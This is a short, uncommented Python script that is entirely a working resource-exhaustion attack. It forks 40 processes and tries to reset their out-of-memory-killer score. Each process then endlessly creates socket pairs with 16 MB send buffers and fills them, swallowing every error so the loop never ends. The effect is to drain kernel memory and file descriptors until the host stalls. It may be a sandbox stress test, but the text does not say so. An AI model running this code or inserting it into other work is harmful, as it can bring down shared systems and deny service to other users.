import os
import posix
import socket
import sys

sys.setrecursionlimit(1000)
for _ in range(40):
    if posix.fork() == 0:
        break
try:
    os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"0")
except OSError:
    pass
pairs = []
block = b"x" * 65536
while True:
    try:
        pairs.append(socket.socketpair())
        for one in pairs[-1]:
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            while True:
                try:
                    one.send(block)
                except BlockingIOError:
                    break
    except OSError:
        pass
